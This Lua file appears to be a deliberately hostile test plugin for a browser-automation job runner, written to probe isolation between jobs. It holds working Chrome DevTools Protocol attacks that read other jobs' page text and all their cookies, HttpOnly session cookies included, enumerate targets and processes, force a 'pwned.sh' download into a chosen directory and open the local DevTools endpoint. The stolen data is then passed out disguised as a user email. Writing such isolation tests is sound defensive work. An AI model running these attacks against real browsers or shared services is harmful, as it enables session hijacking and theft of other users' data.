-- Hostile: raw CDP beyond the job's own page.  account.mode picks the
-- attack; list_users returns what it got as one user's email ("loot:…").
local app = { name = "hostile-cdp" }
local loot

local function other_pages(page)
  local mine = page:send("Target.getTargetInfo").targetInfo
  local found = {}
  for _, t in ipairs(cdp.send("Target.getTargets").targetInfos) do
    if t.type == "page" and t.browserContextId ~= mine.browserContextId then
      found[#found + 1] = t
    end
  end
  return found
end

-- Attach to a page and read its DOM and every cookie of its context.
local function rob(target_id, got)
  local s = cdp.send("Target.attachToTarget", { targetId = target_id, flatten = true })
  local dom = cdp.send("Runtime.evaluate", { expression = "document.body.innerText",
    returnByValue = true }, { session = s.sessionId })
  got[#got + 1] = "dom=" .. tostring(dom.result.value):gsub("%s+", " "):sub(1, 80)
  local jar = cdp.send("Network.getAllCookies", {}, { session = s.sessionId })
  for _, ck in ipairs(jar.cookies) do
    got[#got + 1] = "cookie=" .. ck.name .. "=" .. ck.value .. (ck.httpOnly and "(httpOnly)" or "")
  end
end

local ATTACKS = {
  -- another job's page, found with Target.getTargets: its DOM and its
  -- HttpOnly session cookie
  steal = function(page, a)
    local got = {}
    for _, t in ipairs(other_pages(page)) do
      if t.url:find("/acme", 1, true) then rob(t.targetId, got) end
    end
    return #got > 0 and table.concat(got, " ") or "no other job found"
  end,
  -- the same with a target id learnt elsewhere (the DevTools /json/list)
  steal_id = function(page, a)
    local got = {}
    rob(a.target_id, got)
    return table.concat(got, " ")
  end,
  -- the same through the browser-level domains
  storage = function(page, a)
    local jar = cdp.send("Storage.getCookies", {})
    return "cookies=" .. #jar.cookies
  end,
  targets = function(page, a)
    return "others=" .. #other_pages(page)
  end,
  sysinfo = function(page, a)
    return "processes=" .. #cdp.send("SystemInfo.getProcessInfo").processInfo
  end,
  -- write a file of the page's choosing anywhere the worker can
  download = function(page, a)
    cdp.send("Browser.setDownloadBehavior", { behavior = "allow", downloadPath = a.dir })
    page:navigate(a.base_url .. "/")
    page:eval([[(() => { const l = document.createElement('a');
      l.href = URL.createObjectURL(new Blob(['pwned'], {type: 'application/octet-stream'}));
      l.download = 'pwned.sh'; document.body.appendChild(l); l.click(); return 1 })()]])
    clock.sleep(1500)
    return "download asked"
  end,
  -- a download the page starts by itself, no CDP at all
  page_download = function(page, a)
    page:navigate(a.base_url .. "/")
    page:eval([[(() => { const l = document.createElement('a');
      l.href = URL.createObjectURL(new Blob(['pwned'], {type: 'application/octet-stream'}));
      l.download = 'pwned.sh'; document.body.appendChild(l); l.click(); return 1 })()]])
    clock.sleep(1500)
    return "download asked"
  end,
  -- every job's targets as the browser announces them
  snoop = function(page, a)
    local ev = cdp.wait_event("Target.targetInfoChanged", 1000)
    return "event=" .. tostring(ev and ev.targetInfo.url)
  end,
  -- the browser's DevTools endpoint, opened by the page itself (a link):
  -- its /json/list names every job's page and its WebSocket URL
  devtools_link = function(page, a)
    page:navigate(a.base_url .. "/")
    page:eval("location.href = 'http://127.0.0.1:" .. a.devtools_port .. "/json/list'; 1")
    clock.sleep(1000)
    return page:eval("document.body && document.body.innerText || ''"):gsub("%s+", " "):sub(1, 120)
  end,
}

function app.login(page, account)
  local attack = ATTACKS[account.mode]
  if not attack then error("unknown mode " .. tostring(account.mode)) end
  loot = attack(page, account)
end

function app.list_users(page)
  log.warn("loot:" .. tostring(loot))   -- whole, on stderr (the table cuts columns)
  return { { email = "loot:" .. tostring(loot), roles = {} } }
end

function app.invite() end
function app.update() end
function app.remove() end
return app
